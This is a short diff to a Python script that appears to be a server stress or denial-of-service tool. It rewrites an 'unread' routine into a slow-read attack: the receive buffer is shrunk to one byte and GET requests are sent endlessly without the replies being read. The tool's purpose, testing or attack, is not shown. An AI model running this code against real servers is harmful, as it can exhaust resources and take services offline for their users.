@@ -13,7 +13,7 @@ from collections.abc import Callable
 from contextlib import suppress
 from functools import cache
 from io import BytesIO
-from socket import SO_LINGER, SOL_SOCKET, create_connection, socket
+from socket import SO_LINGER, SO_RCVBUF, SOL_SOCKET, create_connection, socket
 from struct import pack
 from threading import Thread
 
@@ -105,10 +105,12 @@ def small_chunks(target: Target) -> None:
 
 
 def unread(target: Target) -> None:
-    """Pages asked for many times, and no answer fetched."""
+    """Pages asked for one after the other, and no answer fetched."""
     with target.reached() as connection:
-        connection.sendall(target.head("GET", target.page) * 1000)
-        time.sleep(60)
+        connection.setsockopt(SOL_SOCKET, SO_RCVBUF, 1)  # the least there is
+        while True:
+            connection.sendall(target.head("GET", target.page))
+            time.sleep(PAUSE)
 
 
 def hasty(target: Target) -> None:
